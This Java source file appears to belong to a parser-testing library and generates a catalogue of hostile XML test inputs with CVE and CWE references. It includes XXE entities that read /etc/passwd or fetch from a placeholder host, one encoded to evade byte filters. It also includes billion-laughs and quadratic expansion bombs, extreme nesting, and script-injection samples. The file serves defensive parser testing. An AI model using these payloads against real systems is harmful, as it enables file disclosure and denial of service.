package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.AMBIGUITY;
import static org.junitsandbox.corpus.Attack.BOMB;
import static org.junitsandbox.corpus.Attack.EMPTY;
import static org.junitsandbox.corpus.Attack.ENCODING;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.INJECTION;
import static org.junitsandbox.corpus.Attack.LONG_NAME;
import static org.junitsandbox.corpus.Attack.LOOP;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;
import static org.junitsandbox.corpus.Attack.NESTING;
import static org.junitsandbox.corpus.Attack.TRUNCATED;

import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** XML documents: entities that refer to other files and multiply, depth, and loads. */
final class XmlFiles {

    private static final String REMOTE = "http://example.invalid/";
    private static final String SECRET = "file:///etc/passwd";
    private static final String HEAD = "<?xml version='1.0' encoding='UTF-8'?>\n";
    private static final String TWIN = HEAD + "<list><item id='a'>harmless</item><item id='b'/></list>\n";
    private static final Family XML = Family.of(Format.XML, TWIN);
    private static final int MANY = 10_000;

    private XmlFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(entities(), references(), bombs(), loads(), texts(), errors(), ends())
                .flatMap(all -> all);
    }

    private static String withDoctype(String declarations, String content) {
        return HEAD + "<!DOCTYPE list [" + declarations + "]>\n" + list(content);
    }

    private static String list(String content) {
        return "<list><item>" + content + "</item></list>\n";
    }

    private static HostileFile reference(String variant, String description, String reference, String text) {
        return XML.file(EXTERNAL_REFERENCE, variant, description, reference, text);
    }

    private static Stream<HostileFile> entities() {
        String xxe = "XML 1.0 section 4.2.2";
        String entity = withDoctype("<!ENTITY x SYSTEM '" + SECRET + "'>", "&x;");
        return Stream.of(
                reference("entity-file", "An entity is the file /etc/passwd.", "CVE-2013-4152, " + xxe, entity),
                reference(
                        "entity-http",
                        "An entity is at an address in the network.",
                        xxe,
                        withDoctype("<!ENTITY x SYSTEM '" + REMOTE + "x'>", "&x;")),
                reference(
                        "entity-public",
                        "An entity has a public identifier, and is the file /etc/passwd.",
                        xxe,
                        withDoctype("<!ENTITY x PUBLIC '-//X//Y' '" + SECRET + "'>", "&x;")),
                XML.file(
                        EXTERNAL_REFERENCE,
                        "entity-utf-16",
                        "An entity is the file /etc/passwd; in UTF-16, so that no filter of bytes finds it.",
                        xxe,
                        Content.of(('\ufeff' + entity.replace("UTF-8", "UTF-16")).getBytes(StandardCharsets.UTF_16BE))),
                reference(
                        "parameter-entity-http",
                        "A parameter entity is at an address in the network.",
                        xxe,
                        withDoctype("<!ENTITY % x SYSTEM '" + REMOTE + "x.dtd'> %x;", "")),
                reference(
                        "parameter-entity-file",
                        "A parameter entity is the file /etc/passwd: an error message shows its lines.",
                        xxe,
                        withDoctype("<!ENTITY % x SYSTEM '" + SECRET + "'> %x;", "")),
                reference(
                        "document-type-http",
                        "The document type is at an address in the network.",
                        "XML 1.0 section 2.8",
                        HEAD + "<!DOCTYPE list SYSTEM '" + REMOTE + "list.dtd'>" + list("")),
                reference(
                        "document-type-file",
                        "The document type is the file /etc/passwd.",
                        "XML 1.0 section 2.8",
                        HEAD + "<!DOCTYPE list SYSTEM '" + SECRET + "'>" + list("")));
    }

    private static Stream<HostileFile> references() {
        return Stream.of(
                reference(
                        "include-file",
                        "An inclusion takes the text of /etc/passwd.",
                        "XInclude 1.0 section 3.1",
                        HEAD + list(include("parse='text' href='" + SECRET + "'"))),
                reference(
                        "include-http",
                        "An inclusion is at an address in the network.",
                        "XInclude 1.0 section 3.1",
                        HEAD + list(include("href='" + REMOTE + "x.xml'"))),
                reference(
                        "schema-http",
                        "The schema is at an address in the network.",
                        "XML Schema 1.1 section 2.7.3",
                        HEAD + "<list xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
                                + " xsi:noNamespaceSchemaLocation='" + REMOTE + "list.xsd'/>\n"),
                reference(
                        "stylesheet-http",
                        "The style sheet is at an address in the network.",
                        "Associating Style Sheets with XML section 4",
                        HEAD + "<?xml-stylesheet type='text/xsl' href='" + REMOTE + "x.xsl'?>" + list("")));
    }

    private static String include(String attributes) {
        return "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' " + attributes + "/>";
    }

    private static String laughs(String start, String reference) {
        return IntStream.rangeClosed(1, 9)
                .mapToObj(layer -> "<!ENTITY " + start + "e" + layer + " '"
                        + (reference + "e" + (layer - 1) + ";").repeat(10) + "'>")
                .collect(Collectors.joining("", "<!ENTITY " + start + "e0 'x'>", ""));
    }

    private static Stream<HostileFile> bombs() {
        String layers = laughs("", "&");
        return Stream.of(
                XML.begin(
                                BOMB,
                                "laughs",
                                "Nine layers of entities, each ten times the one below: a gigabyte of text.",
                                "CWE-776, CVE-2003-1564")
                        .expandsTo(1_000_000_000, 1, 9)
                        .content(Content.of(withDoctype(layers, "&e9;")))
                        .build(),
                XML.begin(
                                BOMB,
                                "laughs-attribute",
                                "Nine layers of entities, each ten times the one below, in an attribute.",
                                "CWE-776, XML 1.0 section 3.3.3")
                        .expandsTo(1_000_000_000, 1, 9)
                        .content(Content.of(withDoctype(layers, "<item id='&e9;'/>")))
                        .build(),
                XML.begin(
                                BOMB,
                                "quadratic",
                                "An entity of 10,000 characters is used 10,000 times: 100 MB of text.",
                                "CWE-776, CVE-2013-0338")
                        .expandsTo(100_000_000, 1, 1)
                        .content(Content.of(
                                withDoctype("<!ENTITY x '" + "x".repeat(10_000) + "'>", "&x;".repeat(10_000))))
                        .build(),
                XML.begin(BOMB, "attribute", "An attribute of 300 kB.", "CWE-770, XML 1.0 section 3.1")
                        .expandsTo(300_000, 1, 1)
                        .content(Content.of(HEAD + list("<item id='" + "x".repeat(300_000) + "'/>")))
                        .build(),
                XML.file(
                        LOOP,
                        "entities",
                        "Two entities hold each other.",
                        "XML 1.0 section 4.1",
                        withDoctype("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;")),
                XML.file(
                        LOOP,
                        "entities-attribute",
                        "Two entities hold each other; an attribute uses one.",
                        "XML 1.0 section 4.1",
                        withDoctype("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "<item id='&a;'/>")));
    }

    private static HostileFile many(String variant, String description, String section, String text) {
        return XML.begin(MANY_ENTRIES, variant, description, section)
                .expandsTo(0, MANY, 1)
                .content(Content.of(HEAD + text))
                .build();
    }

    private static Stream<HostileFile> loads() {
        return Stream.of(
                XML.begin(NESTING, "elements", "10,000 elements within each other.", "XML 1.0 section 3")
                        .expandsTo(0, MANY, MANY)
                        .content(Content.of(HEAD + "<a>".repeat(MANY) + "</a>".repeat(MANY)))
                        .build(),
                XML.begin(
                                NESTING,
                                "content-model",
                                "A declaration with 10,000 parentheses within each other.",
                                "CVE-2022-25313, XML 1.0 section 3.2.1")
                        .expandsTo(0, 1, 10_000)
                        .content(Content.of(withDoctype(
                                "<!ELEMENT list " + "(".repeat(10_000) + "item" + ")".repeat(10_000) + ">", "")))
                        .build(),
                many(
                        "attributes",
                        "An element with 10,000 attributes.",
                        "XML 1.0 section 3.1",
                        "<list" + numbered(" a%d=''") + "/>"),
                many("elements", "10,000 elements.", "XML 1.0 section 3", "<a>" + "<b/>".repeat(MANY) + "</a>"),
                many(
                        "namespaces",
                        "An element that declares 10,000 prefixes.",
                        "Namespaces in XML 1.0 section 3",
                        "<list" + numbered(" xmlns:a%d='urn:a'") + "/>"),
                XML.file(
                        LONG_NAME,
                        "element",
                        "The name of an element has 100,000 characters.",
                        "CVE-2022-25315, XML 1.0 section 2.3",
                        HEAD + "<" + "a".repeat(100_000) + "/>"));
    }

    private static String numbered(String pattern) {
        String[] halves = pattern.split("%d", 2);
        return IntStream.range(0, MANY)
                .mapToObj(number -> halves[0] + number + halves[1])
                .collect(Collectors.joining());
    }

    private static Stream<HostileFile> texts() {
        return Stream.of(
                XML.file(
                        AMBIGUITY,
                        "comment-in-text",
                        "A comment parts a text: some programs see the whole, and some only its beginning.",
                        "CVE-2017-11427, XML 1.0 section 2.5",
                        HEAD + list("admin<!-- -->.example.invalid")),
                XML.file(
                        INJECTION,
                        "cdata-markup",
                        "A text is the markup of a script, which a page must not show as it is.",
                        "CWE-79, XML 1.0 section 2.7",
                        HEAD + list("<![CDATA[<script>alert(1)</script>]]>")),
                XML.file(
                        ACTIVE_CONTENT,
                        "page-script",
                        "An element is a script of a page, which browsers run.",
                        "CWE-79, Namespaces in XML 1.0 section 2",
                        HEAD + list("<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>")),
                XML.file(
                        ENCODING,
                        "not-utf-8",
                        "A text that is declared as UTF-8 and is not.",
                        "XML 1.0 section 4.3.3",
                        Content.of(Bytes.latin1(HEAD + list("caf\u00e9 \u00ff")))),
                XML.file(
                        ENCODING,
                        "overlong",
                        "A smaller-than sign in two bytes.",
                        "RFC 3629 section 3",
                        Content.of(Bytes.latin1(HEAD + list("\u00c0\u00bcscript>")))));
    }

    private static HostileFile malformed(String variant, String description, String section, String content) {
        return XML.file(MALFORMED, variant, description, "XML 1.0 section " + section, HEAD + list(content));
    }

    private static Stream<HostileFile> errors() {
        return Stream.of(
                malformed("not-closed", "An element is not closed.", "3.1", "<item>"),
                malformed("crossed", "Two elements cross.", "3.1", "<a><b></a></b>"),
                malformed("attribute-twice", "An attribute is there twice.", "3.1", "<item id='a' id='b'/>"),
                malformed("no-entity", "An entity is not declared.", "4.1", "&x;"),
                malformed("null-reference", "A reference to the character 0.", "4.1", "&#0;"),
                malformed("null", "The character 0.", "2.2", "\0"),
                malformed("surrogate", "A reference to half of a pair.", "2.2", "&#xd800;"),
                XML.file(MALFORMED, "two-roots", "There are two roots.", "XML 1.0 section 2.1", TWIN + list("")));
    }

    private static Stream<HostileFile> ends() {
        String section = "XML 1.0 section 2.1";
        return Stream.of(
                XML.file(EMPTY, "no-bytes", "The file has no bytes.", section, ""),
                XML.file(EMPTY, "no-root", "There is a declaration and no more.", section, HEAD),
                cut("in-declaration", "The file ends within the declaration.", 10),
                cut("in-root", "The file ends within the first tag.", HEAD.length() + 3),
                cut("in-attribute", "The file ends within an attribute.", TWIN.indexOf("'a'") + 2),
                cut("before-end", "The file ends before the last tag.", TWIN.indexOf("</list>")));
    }

    private static HostileFile cut(String variant, String description, int length) {
        return XML.file(TRUNCATED, variant, description, "XML 1.0 section 2.1", TWIN.substring(0, length));
    }
}
